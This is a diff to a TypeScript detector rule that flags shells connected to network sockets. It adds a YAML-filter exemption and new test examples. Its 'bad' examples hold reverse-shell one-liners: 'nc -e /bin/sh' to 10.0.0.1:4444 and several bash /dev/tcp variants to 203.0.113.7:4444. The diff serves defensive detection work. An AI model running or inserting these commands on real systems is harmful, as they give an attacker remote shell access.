@@ -39,6 +39,7 @@ export const check: FileCheck = {
   },
   examples: {
     bad: [
+      { 'job.yaml': 'steps:\n  - run: "«nc -e /bin/sh» 10.0.0.1 4444"\n' },
       { 'setup.sh': '«bash -i >& /dev/tcp/203.0.113.7/4444» 0>&1' },
       { 'run.sh': '«exec 5<>/dev/tcp/203.0.113.7/4444»; cat <&5 | while read line; do $line 2>&5 >&5; done' },
       { 'go.sh': '0<&196; «exec 196<>/dev/tcp/203.0.113.7/4444»; sh <&196 >&196 2>&196' },
@@ -58,6 +59,7 @@ export const check: FileCheck = {
       },
     ],
     good: [
+      { 'filter.yaml': 'words:\n  - keyword: "nc -e /bin/sh"\n    severity: high\n' },
       { 'wait.sh': 'until nc -z localhost 5432; do sleep 1; done' },
       { 'probe.sh': '(echo > /dev/tcp/localhost/80) && echo open' },
       { 'wait.sh': 'timeout 1 bash -c "exec 3<>/dev/tcp/127.0.0.1/$port" && echo open' },
@@ -74,6 +76,7 @@ export const check: FileCheck = {
           // A daemon hands its streams to files in the same way.
           if (match[0].startsWith('os.dup2') && !SOCKET.test(window.text)) continue;
           if (match[0].startsWith('exec') && !READ_BY_SHELL.test(window.text)) continue;
+          if (DATA.has(language) && LOOKED_FOR.test(lineRound(window.text, match.index))) continue;
           yield {
             at: window.spanOf(match),
             message: 'A shell is connected to a network socket.',
@@ -86,6 +89,10 @@ export const check: FileCheck = {
     }
   },
 };
+
+const DATA: ReadonlySet<string> = new Set(['yaml', 'json', 'toml']);
+/** `keyword: "nc -e /bin/sh"`: what a filter looks for, in words of its own. */
+const LOOKED_FOR = /^[\s{-]*["']?(?:keyword|phrase|pattern|signature|regex)s?["']?\s*[:=]\s*["']/i;
 
 /** The line of a place, as far as it is worth reading. */
 function lineRound(text: string, at: number): string {
